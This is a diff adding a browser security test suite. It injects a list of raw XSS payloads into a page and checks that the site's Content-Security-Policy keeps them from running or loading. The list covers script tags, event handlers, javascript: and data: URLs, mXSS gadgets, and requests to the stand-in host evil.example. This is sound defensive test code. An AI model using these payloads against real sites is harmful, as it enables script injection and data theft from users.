@@ -1,0 +1,145 @@
+/**
+ * The breach drill: hostile markup stands raw in a page, as if all escaping had failed, and the
+ * page's own headers come with it. In a real browser nothing of it may run.
+ */
+import { createServer, type Server } from "node:http";
+import type { AddressInfo } from "node:net";
+
+import { afterEach, expect, test } from "vitest";
+
+import { ATTACK_VECTORS } from "../fixtures/attack-vectors.ts";
+import { openStage, type Stage } from "./browser.ts";
+
+let stage: Stage;
+let server: Server;
+afterEach(async () => {
+  await stage.close();
+  server.closeAllConnections();
+  server.close();
+});
+
+/** What would tell that something ran: each way to act calls it. */
+const ALARM = "act";
+
+/** Markup that needs its own words: sinks, gadgets and clicks that the vectors leave out. */
+const RAW = [
+  "<script>act()</script>",
+  "<script src=https://evil.example/a.js></script>",
+  "<script src='data:text/javascript,act()'></script>",
+  "<script type=module>act()</script>",
+  "<script type=module src='data:text/javascript,act()'></script>",
+  "<script type=importmap>{}</script><script>act()</script>",
+  "<img src=x onerror=act()>",
+  "<svg onload=act()><animate onbegin=act() attributeName=x dur=1s>",
+  "<svg><script>act()</script></svg>",
+  "<svg><use href='data:image/svg+xml,<svg id=x onload=act()></svg>#x'></use></svg>",
+  "<video><source onerror=act()></video><audio src=x onerror=act()></audio>",
+  "<iframe srcdoc='<script>parent.act()</script>'></iframe>",
+  "<iframe src='javascript:parent.act()'></iframe>",
+  "<iframe src='data:text/html,<script>parent.act()</script>'></iframe>",
+  "<object data='javascript:act()'></object><embed src='javascript:act()'>",
+  "<a id=lure href='javascript:act()'>lure</a>",
+  "<form id=trap action='https://evil.example/'><input name=a value=b></form>",
+  "<form id=trap2 action='javascript:act()'><button>go</button></form>",
+  "<base href='https://evil.example/'>",
+  "<link rel=stylesheet href='https://evil.example/a.css'><style>@import 'https://evil.example/b.css';</style>",
+  "<link rel=modulepreload href='https://evil.example/preload.js'><link rel=import href='https://evil.example/i'>",
+  "<meta http-equiv=Content-Security-Policy content=\"script-src 'unsafe-inline'\"><script>act()</script>",
+  "<div style='background:url(https://evil.example/s)'>s</div>",
+  "<input autofocus onfocus=act()><details open ontoggle=act()>d</details>",
+  "<body onload=act()><marquee onstart=act()>m</marquee>",
+  "<math><mtext></p><img src=x onerror=act()></math>",
+  "<noscript><p title='</noscript><img src=x onerror=act()>'></noscript>",
+] as const;
+
+test("hostile markup written raw into a page runs nothing and leads nowhere", async () => {
+  stage = await openStage();
+  const answer = await stage.site.get("/tech");
+  await answer.text();
+  const page = await stage.site.get("/tech");
+  const html = await page.text();
+  const hostile = [
+    ...RAW,
+    ...ATTACK_VECTORS.filter((text) => !text.includes("http-equiv=refresh")),
+  ];
+  const headers = Object.fromEntries(
+    [...page.headers].filter(
+      ([name]) => !/^(?:content-(?:length|encoding)|transfer-encoding)$/.test(name),
+    ),
+  );
+  let part = 0;
+  const evil: string[] = [];
+  server = createServer((request, response) => {
+    if (request.url?.startsWith("/page")) {
+      const markup = hostile.slice(part, part + 25).join("\n");
+      response
+        .writeHead(200, headers)
+        .end(html.replace('<main id="main"', `${markup}<main id="main"`));
+    } else response.writeHead(404).end();
+  });
+  await new Promise<void>((resolve) => server.listen(0, "127.0.0.1", resolve));
+  const { port } = server.address() as AddressInfo;
+  const context = await stage.browser.newContext();
+  const visitor = await context.newPage();
+  await visitor.exposeFunction(ALARM, () => evil.push("something ran"));
+  visitor.on("dialog", (dialog) => void dialog.dismiss().then(() => evil.push("dialog")));
+  visitor.on("framenavigated", (frame) => {
+    if (frame.url().includes("evil.example")) evil.push(`led to ${frame.url()}`);
+  });
+  await context.route("**evil.example/**", (route) => {
+    // Pictures may come from anywhere, and a module that is preloaded is fetched and never run.
+    const url = route.request().url();
+    if (route.request().resourceType() !== "image" && !url.endsWith("/preload.js")) {
+      evil.push(`asked ${url}`);
+    }
+    return route.abort();
+  });
+  for (part = 0; part < hostile.length; part += 25) {
+    await visitor.goto(`http://127.0.0.1:${port}/page`, { waitUntil: "domcontentloaded" });
+    await visitor.evaluate(() => {
+      document.querySelector<HTMLElement>("#lure")?.click();
+      for (const form of document.querySelectorAll<HTMLFormElement>("#trap, #trap2")) form.submit();
+    });
+    await visitor.waitForTimeout(250);
+    expect([part, evil]).toEqual([part, []]);
+  }
+  expect(hostile.length).toBeGreaterThan(200);
+});
+
+test("the same drill without the policy runs, so it would have told", async () => {
+  stage = await openStage();
+  let ran = 0;
+  server = createServer((_request, response) => {
+    response.setHeader("content-type", "text/html").end(`<body>${RAW[6]}${RAW[0]}</body>`);
+  });
+  await new Promise<void>((resolve) => server.listen(0, "127.0.0.1", resolve));
+  const { port } = server.address() as AddressInfo;
+  const visitor = await (await stage.browser.newContext()).newPage();
+  await visitor.exposeFunction(ALARM, () => (ran += 1));
+  await visitor.goto(`http://127.0.0.1:${port}/page`);
+  await expect.poll(() => ran).toBe(2);
+});
+
+test.each([
+  ["does not load", (): [number, string] => [503, "no"]],
+  ["throws at once", (): [number, string] => [200, "throw new Error('broken bundle')"]],
+])("where the client %s, pages still read and navigate", async (_how, broken) => {
+  stage = await openStage();
+  server = createServer();
+  const context = await stage.browser.newContext();
+  const visitor = await context.newPage();
+  let asked = 0;
+  await context.route("**/assets/*.js", (route) => {
+    asked += 1;
+    const [status, body] = broken();
+    return route.fulfill({ status, body, contentType: "text/javascript" });
+  });
+  await visitor.goto(stage.origin);
+  await visitor.mouse.click(5, 5);
+  await expect.poll(() => asked).toBeGreaterThan(0);
+  expect(await visitor.locator("article").count()).toBeGreaterThan(10);
+  await visitor.getByRole("link", { name: "See All" }).first().click();
+  await visitor.waitForURL("**/world-news");
+  expect(await visitor.locator("h1").innerText()).toBe("World News");
+  expect(await visitor.locator("article").count()).toBeGreaterThan(10);
+});
